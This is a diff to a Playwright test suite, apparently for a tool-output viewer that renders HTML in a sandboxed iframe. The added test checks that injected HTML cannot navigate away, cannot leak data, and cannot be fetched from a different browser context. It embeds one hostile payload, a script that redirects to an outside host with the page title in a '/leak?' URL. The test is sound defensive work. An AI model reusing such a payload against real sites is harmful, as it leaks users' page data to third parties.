@@ -29,7 +29,7 @@ test.afterAll(async () => {
   elsewhere.close();
 });
 
-/** Calls a tool as the session page does and gives back the execution's id. */
+/** Calls a tool as the session page does and gives back the call's id. */
 async function call(of: ToolCall): Promise<string> {
   const sessionId = new URL(session).pathname.split("/").at(-1);
   const view = await page.evaluate(
@@ -165,4 +165,25 @@ test("keeps a hostile page in its frame: no cookie, no storage, no request, no n
   expect(page.url()).toBe(session);
   expect(context.pages()).toHaveLength(windows);
   expect(reached).toEqual([]);
+});
+
+test("a page that leaves for elsewhere gets nowhere, with what it knows neither, and is isolated where it is opened by itself", async () => {
+  await page.goto(session);
+  reached = [];
+  const leaving = `<p>going</p><a id="a" href="${outside}/link">x</a><meta http-equiv="refresh" content="0;url=${outside}/refresh">
+<script>document.getElementById("a").click(); location.href = "${outside}/leak?" + encodeURIComponent(document.title);</script>`;
+  const stopped = page.waitForEvent("console", (message) => /frame-src/.test(message.text()));
+  await call({ tool: "html_template", input: { title: "Leaving", html: leaving } });
+  await stopped;
+  expect(page.url()).toBe(session);
+  expect(reached).toEqual([]);
+
+  const address = (await page.locator("iframe[title='Leaving']").getAttribute("src")) ?? "";
+  const alone = await page.request.get(address);
+  expect(alone.status()).toBe(200);
+  expect(alone.headers()["content-security-policy"]).toMatch(/^sandbox allow-scripts; default-src 'none';/);
+  const stranger = await context.browser()?.newContext();
+  const refused = await stranger?.request.get(new URL(address, page.url()).href);
+  expect(refused?.status()).toBe(404);
+  await stranger?.close();
 });
